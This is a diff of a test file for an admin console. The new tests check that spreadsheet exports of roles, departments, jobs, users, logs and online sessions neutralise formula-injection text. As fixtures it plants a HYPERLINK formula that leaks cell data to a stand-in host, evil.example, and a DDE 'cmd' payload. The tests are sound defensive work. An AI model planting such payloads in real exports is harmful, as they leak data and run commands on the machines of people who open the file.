@@ -1,16 +1,19 @@
 /**
- * Issue 22, items 9 and 10: what the server says about its answers (security
+ * Issue 22, items 9, 10 and 11: what the server says about its answers (security
  * headers, caching), and what it does with files and exports under attack:
  * - every answer carries a Content-Security-Policy the console runs under (the browser
  *   tests fail on any violation: e2e/fixtures.ts), framing by its own origin only,
  *   nosniff and same-origin referrers; API answers are never stored by a cache, while
  *   static files and pictures keep their long caching;
  * - parallel avatar uploads leave exactly the last file on disk;
+ * - export cells that a spreadsheet would read as a formula stay text;
  */
 import fs from 'node:fs';
 import path from 'node:path';
 import type { LightMyRequestResponse } from 'fastify';
-import { call, createTestApp, destroyTestApp, login, pngImage, tempDir, upload, type TestApp } from '../testing/harness';
+import ExcelJS from 'exceljs';
+import { call, captcha, createTestApp, destroyTestApp, encrypt, login, pngImage, tempDir, upload, type TestApp } from '../testing/harness';
+import { roleId } from '../testing/system-fixtures';
 
 /** The directives of a Content-Security-Policy header, by name. */
 function directives(header: string | number | string[] | undefined): Map<string, string[]> {
@@ -131,6 +134,77 @@ describe('parallel avatar uploads (item 10)', () => {
     ]);
     const editors = t.app.ctx.users.findForLogin('editor')!.avatar;
     expect(fs.readdirSync(path.join(t.app.ctx.files.root, 'avatar')).sort()).toEqual([mine, editors].sort());
+  });
+});
+
+describe('exports keep formula-looking text as text (item 11)', () => {
+  let t: TestApp;
+  let admin: string;
+  /** A User-Agent bowser does not know: shown (and exported) as it is. */
+  const HOSTILE_UA = '=HYPERLINK("https://evil.example/?leak="&A1,"点我")';
+  beforeAll(async () => {
+    t = await createTestApp();
+    admin = await login(t.app);
+  });
+  afterAll(() => destroyTestApp(t));
+
+  /** Every cell of the first sheet: its text, and whether exceljs reads it as a formula. */
+  async function cells(res: LightMyRequestResponse): Promise<{ texts: string[]; formulas: number }> {
+    expect(res.statusCode).toBe(200);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
+    const texts: string[] = [];
+    let formulas = 0;
+    workbook.worksheets[0]!.eachRow((row) =>
+      row.eachCell((cell) => {
+        texts.push(cell.text);
+        if (cell.type === ExcelJS.ValueType.Formula) formulas += 1;
+      }),
+    );
+    return { texts, formulas };
+  }
+
+  it('prefixes = + - @ tab and carriage return with an apostrophe in the system exports', async () => {
+    const { db } = t.app.ctx;
+    const role = roleId(t.app, 'common');
+    db.prepare("UPDATE roles SET name = '=1+2', description = '@SUM(A1:A9)' WHERE id = ?").run(role);
+    db.prepare("UPDATE depts SET name = '+cmd|'' /C calc''!A0' WHERE name = '前端组'").run();
+    db.prepare("UPDATE depts SET name = char(9) || '=1' WHERE name = '后端组'").run();
+    db.prepare("UPDATE jobs SET name = '-2+3' WHERE id = (SELECT MIN(id) FROM jobs)").run();
+    db.prepare("UPDATE users SET email = char(13) || '=2', phone = '-13900000000' WHERE username = 'editor'").run();
+
+    const roles = await cells(await call(t.app, 'GET', '/api/roles/download', { token: admin }));
+    expect(roles.texts).toEqual(expect.arrayContaining(["'=1+2", "'@SUM(A1:A9)", '超级管理员']));
+    const depts = await cells(await call(t.app, 'GET', '/api/dept/download', { token: admin }));
+    expect(depts.texts).toEqual(expect.arrayContaining(["'+cmd|' /C calc'!A0", "'\t=1", '研发部']));
+    const jobs = await cells(await call(t.app, 'GET', '/api/job/download', { token: admin }));
+    expect(jobs.texts).toContain("'-2+3");
+    const users = await cells(await call(t.app, 'GET', '/api/users/download', { token: admin }));
+    expect(users.texts).toEqual(expect.arrayContaining(["'-13900000000", 'editor']));
+    // XML reads a stored carriage return back as a line feed; the apostrophe is what counts.
+    expect(users.texts.filter((text) => /^'[\r\n]=2$/.test(text))).toHaveLength(1);
+    for (const sheet of [roles, depts, jobs, users]) expect(sheet.formulas).toBe(0);
+  });
+
+  it('prefixes a hostile User-Agent in 操作日志 and 在线用户', async () => {
+    const { uuid, answer } = await captcha(t.app);
+    const signIn = await t.app.inject({
+      method: 'POST',
+      url: '/auth/login',
+      headers: { 'user-agent': HOSTILE_UA },
+      payload: { username: 'editor', password: encrypt(t.app, '123456'), code: answer, uuid },
+    });
+    expect(signIn.statusCode).toBe(200);
+
+    const logs = await cells(await call(t.app, 'GET', '/api/logs/download', { token: admin }));
+    expect(logs.texts).toContain(`'${HOSTILE_UA}`);
+    expect(logs.texts).not.toContain(HOSTILE_UA);
+    const online = await cells(await call(t.app, 'GET', '/auth/online/download', { token: admin }));
+    expect(online.texts).toContain(`'${HOSTILE_UA}`);
+    expect(online.texts).not.toContain(HOSTILE_UA);
+    // Numbers stay numbers (the duration column), dates and ordinary text unchanged.
+    expect(logs.texts).toContain('用户登录');
+    for (const sheet of [logs, online]) expect(sheet.formulas).toBe(0);
   });
 });
 
